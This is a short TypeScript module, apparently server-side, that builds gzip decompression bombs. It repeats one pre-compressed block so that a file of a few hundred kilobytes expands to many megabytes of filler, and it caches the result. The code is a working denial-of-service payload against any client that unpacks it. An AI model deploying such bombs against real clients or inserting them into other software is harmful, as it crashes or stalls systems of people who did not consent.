import { constants, crc32, deflateRawSync } from 'node:zlib';

const mebibyte = 1024 * 1024;
const made = new Map<string, Buffer>();

/**
 * A gzip file of a few hundred kilobytes that unpacks to `begin` and then `megabytes` of `filling`. Put together out of one packed
 * block, because packing all of it would keep the server busy for seconds.
 */
export function bomb(begin: string, filling: string, megabytes: number): Buffer {
  const key = `${megabytes} ${filling} ${begin}`;
  const known = made.get(key) ?? pack(Buffer.from(begin), Buffer.alloc(mebibyte, filling), megabytes);
  made.set(key, known);
  return known;
}

function pack(begin: Buffer, block: Buffer, count: number): Buffer {
  const header = Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff]);
  const flushed = { finishFlush: constants.Z_FULL_FLUSH, level: 9 };
  const packed = deflateRawSync(block, flushed);
  let sum = crc32(begin);
  for (let at = 0; at < count; at++) sum = crc32(block, sum);
  const trailer = Buffer.alloc(8);
  trailer.writeUInt32LE(sum, 0);
  trailer.writeUInt32LE((begin.length + count * block.length) >>> 0, 4);
  const blocks = Array.from({ length: count }, () => packed);
  return Buffer.concat([header, deflateRawSync(begin, flushed), ...blocks, deflateRawSync(''), trailer]);
}
